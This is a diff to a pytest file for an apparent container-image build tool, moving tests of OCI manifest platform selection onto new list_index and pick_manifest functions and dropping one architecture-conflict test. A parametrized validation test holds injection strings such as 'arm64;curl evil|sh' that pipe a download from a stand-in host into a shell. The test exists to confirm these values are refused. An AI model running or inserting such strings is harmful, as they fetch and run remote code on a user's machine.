@@ -7,10 +7,11 @@ from typing import Any
 
 import pytest
 
-from envbuild.core.errors import ConflictError, InputError
+from envbuild.core.errors import InputError
 from envbuild.net.registry.media_types import DOCKER, DOCKER_INDEX, INDEX, OCI
 from envbuild.oci import manifest
 from envbuild.oci.config import parse_rfc3339
+from envbuild.oci.sources.platform import Platform, pick_manifest
 from tests.support.local_registry import DIGEST, LAYER, descriptor
 
 pytestmark = pytest.mark.unit
@@ -86,19 +87,13 @@ def test_schema_1_is_refused() -> None:
     assert "docker push" in caught.value.hint
 
 
-def test_an_index_without_the_architecture() -> None:
-    images = [{**descriptor(), "platform": {"os": system, "architecture": "amd64"}} for system in ("linux", "windows")]
-    with pytest.raises(ConflictError, match="because it is made for linux/amd64, windows/amd64"):
-        manifest.choose_image({"manifests": images}, "x.io/y:1", "arm64")
-    assert manifest.choose_image({"manifests": images[::-1]}, "x.io/y:1", "amd64") == DIGEST
-
-
 @pytest.mark.parametrize("word", ["arm64;curl evil|sh", "arm64\nhint: curl evil | sh", "arm64 x", "a" * 101])
 def test_a_platform_that_is_no_word_is_refused(word: str) -> None:
     """It got into a hint, which users type."""
     images = [{**descriptor(), "platform": {"os": "linux", "architecture": word}}]
+    listed = manifest.list_index({"manifests": images}, "x.io/y:1")
     with pytest.raises(InputError, match="its platform has the word") as caught:
-        manifest.choose_image({"manifests": images}, "x.io/y:1", "arm64")
+        pick_manifest(listed, "x.io/y:1", Platform("arm64", asked=True))
     assert "\n" not in caught.value.message + caught.value.hint
 
 
